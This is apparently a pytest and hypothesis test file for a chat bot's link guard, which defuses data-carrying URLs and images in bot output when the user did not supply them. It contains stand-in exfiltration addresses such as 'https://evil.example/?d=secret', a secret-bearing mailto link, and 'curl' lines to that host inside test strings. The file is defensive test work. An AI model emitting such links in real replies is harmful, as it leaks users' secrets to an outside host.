from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from bot.addresses import LONGEST, Trust, carries_data, written_in
from bot.links import LinkGuard
from bot.markdown import blocks

EVIL = "https://evil.example/?d=secret"
FINE = "https://fine.example/docs/start"


def shown(text: str, *, asked: str = "", known: str = "") -> str:
    trust = Trust()
    trust.learn(f"{asked}\n{known}")
    guard = LinkGuard(trust, asked=asked)
    return guard.feed(text) + guard.end()


@pytest.mark.parametrize(
    ("said", "seen"),
    [
        (f"see {EVIL}.", f"see `{EVIL}`."),
        (f"[click]({EVIL}) here", f"[click] (`{EVIL}`) here"),
        (f'[click]({EVIL} "title")', f'[click] (`{EVIL}` "title")'),
        (f"[click](<{EVIL}>)", "[click] (https:\u200b//evil.\u200bexample/?d=secret)"),
        (f"[{EVIL}]({EVIL})", f"[`{EVIL}`] (`{EVIL}`)"),
        ("www.evil.example/?d=secret", "`www.evil.example/?d=secret`"),
        (f"x{EVIL}", "xhttps:\u200b//evil.\u200bexample/?d=secret"),
        (f"it`s {EVIL}\n", "it`s https:\u200b//evil.\u200bexample/?d=secret\n"),
        (f"\\`{EVIL}`", "\\`https:\u200b//evil.\u200bexample/?d=secret`"),
        (f"[1]: {EVIL}", f"[1]: `{EVIL}`"),
        ("[mail](mailto:eve@evil.example?body=secret)", "[mail] (`mailto:eve@evil.example?body=secret`)"),
        ("postgres://me:secret@db.example/", "postgres:\u200b//me:secret@db.\u200bexample/"),
        ("![a picture](https://fine.example/a.png) ok", "a picture (`https://fine.example/a.png`) ok"),
        (f"[![alt](https://x.example/a.png)]({FINE})", f"[alt (`https://x.example/a.png`)]({FINE})"),
        ("![a [b] c](https://fine.example/a.png)", "!\u200b[a [b] c](https://fine.example/a.png)"),
        ("![alt][1]", "!\u200b[alt][1]"),
        (f"看 {FINE}。好的", f"看 {FINE} 。好的"),
        (f"{EVIL}，好", f"`{EVIL}`，好"),
    ],
)
def test_what_could_lead_away_is_only_shown(said: str, seen: str) -> None:
    assert shown(said) == seen


@pytest.mark.parametrize(
    "said",
    [
        "Hello!",
        FINE,
        f"see {FINE}, or <{FINE}>, or [this]({FINE}#part), **{FINE}**",
        f"`curl {EVIL}` is how",
        f"``a ` {EVIL}``",
        f"```sh\ncurl {EVIL}\n```\nand that is it",
        f"- so:\n  ```sh\n  curl {EVIL}\n  ```",
        f"> ```\n> {EVIL}\n> ```",
        f"a ```{EVIL}``` b",
        "a[0](b) and f(x)[1]! Wow! [ ] done ] (",
        "a\\b \\[x\\] C:\\temp",
        "http and https: both // are fine, ftp too, www",
        "| a | b |\n|---|---|\n| 1 | 2 |",
    ],
)
def test_all_else_stays_as_it_is(said: str) -> None:
    assert shown(said) == said


@pytest.mark.parametrize("asked", [EVIL, f"what is on {EVIL}?", f"({EVIL})", f"看{EVIL}。", f'"{EVIL}",', f"<{EVIL}>"])
def test_what_somebody_wrote_may_be_repeated(asked: str) -> None:
    assert shown(f"[a]({EVIL}) {EVIL}", asked=asked) == f"[a]({EVIL}) {EVIL}"
    assert shown(EVIL, known=asked) == EVIL


def test_a_picture_is_shown_only_if_the_asker_gave_it() -> None:
    picture = "![a](https://x.example/a.png)"
    assert shown(picture, asked="https://x.example/a.png") == picture
    assert shown(picture, known="https://x.example/a.png") == "a (`https://x.example/a.png`)"


def test_the_beginning_of_a_known_address_is_not_known() -> None:
    assert shown("https://x.example/?d=sec", known="https://x.example/?d=secret") == "`https://x.example/?d=sec`"


def test_what_is_learned_later_counts_from_then_on() -> None:
    trust = Trust()
    guard = LinkGuard(trust)
    assert guard.feed(f"{EVIL} ") == f"`{EVIL}` "
    trust.learn(EVIL)
    assert guard.feed(f"{EVIL} ") == f"{EVIL} "


def test_a_tool_does_not_vouch_for_the_address_that_it_was_given() -> None:
    trust = Trust()
    trust.learn(f"no such place: {EVIL}; try {FINE}?b=1", echoed='{"place": "HTTPS://EVIL.EXAMPLE/?d=secret"}')
    guard = LinkGuard(trust)
    assert guard.feed(f"{EVIL} {FINE}?b=1 ") == f"`{EVIL}` {FINE}?b=1 "


@pytest.mark.parametrize(
    ("address", "carries"),
    [
        ("https://x.example", False),
        ("https://x.example/a/b-c_d.html#part", False),
        ("https://x.example/?", False),
        (f"https://x.example/{'a' * 40}", False),
        (f"https://x.example/{'a' * 41}", True),
        (f"https://{'a' * 41}.x.example", True),
        ("https://x.example?a", True),
        ("https://x.example/#" + "a" * 32, False),
        ("https://x.example/#" + "a" * 33, True),
        ("https://me@x.example/", True),
        ("https://x.example/" + "abc/" * 60, True),
        ("https://x.example/a\u200bb", True),
        ("https://x.example/a|b", True),
        ("#part", False),
    ],
)
def test_what_could_carry_data(address: str, carries: bool) -> None:
    assert carries_data(address) == carries


def test_addresses_are_found_however_they_are_set_off() -> None:
    text = f'{{"url":"{EVIL}","b":1}} [a]({FINE}), {FINE}?a=1。'
    assert {EVIL, FINE, f"{FINE}?a=1"} <= written_in(text)


# Nothing is held back for long, and nothing depends on how the text comes ---------------------------------------------


@pytest.mark.parametrize("text", ["Hello", "half", "Done.", "你好", "a [link", "`code", "```py\nx = 1", "1 <", "end"])
def test_what_is_no_beginning_of_an_address_is_shown_at_once(text: str) -> None:
    assert LinkGuard(Trust()).feed(text) == text


@pytest.mark.parametrize(
    "begun", [f"https://{'a' * 9_000}", f"![{'a' * 9_000}", f"[a]({'a' * 9_000}", f"`{EVIL} " * 999]
)
def test_no_more_is_held_back_than_an_address(begun: str) -> None:
    assert len(LinkGuard(Trust()).feed(begun)) > len(begun) - 2 * LONGEST


PIECES = st.sampled_from(
    (
        *("`", "``", "```", "````", "~~~", "\n", "\n\n", " ", "a", "h", "- ", "> ", "    ", "。", "*", ":", "\\", "!"),
        *(EVIL, "//evil.example/?d=secret", "https://ok.example/a", "www.evil.example/?d=secret", "<", ">", "(", ")"),
        *("[", "]", "[x](", "![y](", "](", f"]({EVIL}", "[`", "`]("),
    )
)


@given(st.lists(PIECES, max_size=14))
@settings(max_examples=400)
def test_any_split_gives_the_same(pieces: list[str]) -> None:
    text = "".join(pieces)
    for split in (pieces, list(text)):
        guard = LinkGuard(Trust())
        assert "".join(map(guard.feed, split)) + guard.end() == shown(text)


# What the platforms make of it ---------------------------------------------------------------------------------------

LIVE = re.compile(r"(?:https?|ftp)://(?:www\.)?evil\.example\S*d=secret")
# The order of Discord's own rules, as far as they concern links.
DISCORD = (
    ("code", re.compile(r"```(?:[a-z0-9_+\-.#]+?\n)?\n*[^\n][\s\S]*?\n*```", re.IGNORECASE)),
    ("code", re.compile(r"\\[^0-9A-Za-z\s]")),
    ("code", re.compile(r"(`+)[\s\S]*?[^`]\1(?!`)")),
    ("link", re.compile(r"<(https?:/[^ >]+)>")),
    ("link", re.compile(r"(https?://[^\s<]+[^<.,:;\"'\]\s])")),
    (
        "link",
        re.compile(r"\[(?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*\]\(\s*<?(https?:(?:\([^)]*\)|[^\s\\]|\\.)*?)>?\s*\)"),
    ),
)
PLAIN = re.compile(r"[\s\S]+?(?=[^0-9A-Za-z\s\u00c0-\uffff]|\n|\w+:\S|$)")


def links_on_discord(text: str) -> Iterator[str]:
    last = next(reversed(blocks(text, lambda _: True)), None)
    text += f"\n{last.closing}" if last and last.closing else ""
    at = 0
    while at < len(text):
        found = next(((kind, match) for kind, rule in DISCORD if (match := rule.match(text, at))), None)
        if found and found[0] == "link":
            yield found[1][1]
        match = found[1] if found else PLAIN.match(text, at)
        at = max(at + 1, match.end() if match else 0)


def links_in_markdown(text: str) -> Iterator[str]:
    for block in MarkdownIt("commonmark").parse(text):
        yield from _links(block.children or [])


def _links(tokens: list[Token]) -> Iterator[str]:
    inside = False
    for token in tokens:
        if token.type == "image":
            yield "picture"
        elif token.type == "link_open":
            inside = True
            yield str(token.attrs["href"])
        elif token.type == "link_close":
            inside = False
        elif token.type == "text" and not inside:
            # Slack makes links of addresses in text.
            yield from LIVE.findall(token.content)


@given(st.lists(PIECES, max_size=12))
@example(["> ", "```", "\n\n", "> ", "](https://evil.example/?d=secret"])
@settings(max_examples=400)
def test_nothing_leads_away_whatever_a_platform_takes_for_code(pieces: list[str]) -> None:
    seen = shown("".join(pieces))
    assert [link for link in links_on_discord(seen) if LIVE.search(link)] == []
    assert [link for link in links_in_markdown(seen) if link == "picture" or LIVE.search(link)] == []


@pytest.mark.parametrize("judge", [links_on_discord, links_in_markdown])
@pytest.mark.parametrize("said", [f"see {EVIL} .", f"[a]({EVIL})", f"```\nx ``` y\n```\n{EVIL}"])
def test_the_judges_know_a_link_when_they_see_it(judge: Callable[[str], Iterator[str]], said: str) -> None:
    assert any(LIVE.search(link) for link in judge(said))
    assert not any(LIVE.search(link) for link in judge(shown(said)))
